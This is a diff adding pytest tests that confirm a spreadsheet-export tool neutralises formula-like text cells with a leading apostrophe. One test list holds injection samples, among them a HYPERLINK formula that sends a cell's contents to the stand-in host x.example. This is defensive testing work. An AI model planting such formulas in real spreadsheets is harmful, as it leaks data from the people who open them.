@@ -292,3 +292,43 @@ def test_unit_text_is_escaped_kept_with_its_spaces_and_without_control_character
     first = codes_row(sheet) + 1
     assert [c.value for c in sheet[first]] == ["A & B <C>", 10]
     assert [c.value for c in sheet[first + 1]] == ["  thụt lề ", "N/A"]
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)"]
+
+
+def test_formula_unit_names_are_neutralised_and_read_back(tmp_path: Path) -> None:
+    """Issue 10 §3: a unit name a spreadsheet would run is written (as XML text) with a leading
+    apostrophe; `dti check`'s reader reads the name back and finds the tables consistent."""
+    rows = [(name.replace('"', '""'), "10", "5", "18,8", "0", "N/A") for name in FORMULA_NAMES]  # the CSV's quotes
+    framework_path, results_path = percent_files(tmp_path, {GROUP: rows})
+    framework, snapshot = snapshot_of(framework_path, results_path)
+    target = tmp_path / "phu-luc.xlsx"
+    write_xlsx(build_appendix(snapshot, heading=Heading(issuer=ISSUER)), target)
+    sheet = openpyxl.load_workbook(target)["Tổng hợp"]
+    first = codes_row(sheet) + 1
+    column = [c.value for c in sheet[first - 1]].index("unit") + 1
+    cells = [sheet.cell(first + n, column) for n in range(len(FORMULA_NAMES))]
+    assert sorted(cell.value for cell in cells) == sorted("'" + name for name in FORMULA_NAMES)
+    assert all(cell.data_type == "s" for cell in cells)
+    appendix = read_appendix(framework, target)
+    assert sorted(row.unit for row in appendix.sheets[0].table.rows) == sorted(FORMULA_NAMES)
+    assert check_appendix(framework, appendix) == []
+
+
+def test_every_text_cell_is_neutralised_and_numbers_stay_numbers() -> None:
+    """Unit rows (XML) and the cells openpyxl writes (labels, notes) alike; a negative figure is a number."""
+    table = Table(
+        key="Bảng",
+        title="=Tiêu đề",
+        columns=(Column("unit", "@Đơn vị", None), Column("I", "-I", 2)),
+        rows=(Row(("\tx", Decimal("-1.5"))), Row(("\rx", "-"))),
+        notes=("- ghi chú",),
+    )
+    sheet = workbook(Document(heading=Heading(issuer=""), blocks=(table,), title="Bảng"))["Bảng"]
+    first = codes_row(sheet) + 1
+    assert [c.value for c in sheet[first]] == ["'\tx", -1.5]
+    assert [c.value for c in sheet[first + 1]] == ["'\nx", "'-"]  # XML reads a carriage return as a line feed
+    assert [c.value for c in sheet[first - 2]] == ["'@Đơn vị", "'-I"]
+    assert "'=Tiêu đề" in text(sheet) and "'- ghi chú" in text(sheet)
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
